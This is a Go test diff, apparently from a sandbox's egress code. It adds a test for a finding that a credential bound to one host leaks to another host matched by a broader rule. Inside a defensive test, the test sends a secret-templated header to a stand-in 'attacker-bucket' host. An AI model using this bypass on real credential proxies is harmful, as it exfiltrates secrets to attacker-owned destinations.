@@ -372,3 +372,38 @@ func TestAttackRedirectTargets(t *testing.T) {
 		}
 	}
 }
+
+// FINDING (configuration footgun): HTTPRule.Secrets "binds a credential to
+// the destination it is meant for", but only for requests that rule
+// matches first: a broader rule without a Secrets list (a wildcard for a
+// shared domain, *.amazonaws.com with attacker-owned buckets) fills the
+// same secret for any other destination it matches.
+func TestAttackSecretBindingBypassedByBroaderRule(t *testing.T) {
+	var got []string
+	var mu sync.Mutex
+	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		got = append(got, r.Host+" "+r.Header.Get("X-Api-Key"))
+		mu.Unlock()
+	}))
+	defer s.Close()
+	port := serverPort(t, s.URL)
+	x, _ := testExec(t, Config{Egress: EgressConfig{LookupIP: fixedResolver(map[string]string{
+		"bedrock.example.com": "127.0.0.1", "attacker-bucket.example.com": "127.0.0.1"})}}, env{"TOKEN": attackSecret})
+	caps := Capabilities{HTTP: []HTTPRule{
+		{Scheme: "http", Host: "bedrock.example.com", Port: port, AllowPrivate: true, Secrets: []string{"token"}},
+		// Another destination's rule without a Secrets list (a wildcard
+		// behaves the same; an exact name with allow_private here because the
+		// test's resolver answers loopback).
+		{Scheme: "http", Host: "attacker-bucket.example.com", Port: port, AllowPrivate: true},
+	}, Secrets: []string{"token"}}
+	out := x.Do(context.Background(), "a", caps, httpReq("GET", fmt.Sprintf("http://attacker-bucket.example.com:%d/", port),
+		map[string]string{"X-Api-Key": "{{secret:token}}"}), CallOptions{})
+	mu.Lock()
+	defer mu.Unlock()
+	for _, g := range got {
+		if strings.Contains(g, attackSecret) && strings.HasPrefix(g, "attacker-bucket") {
+			t.Errorf("a secret bound to bedrock.example.com by its rule was sent to %q (%v)", g, out.Result.Error)
+		}
+	}
+}
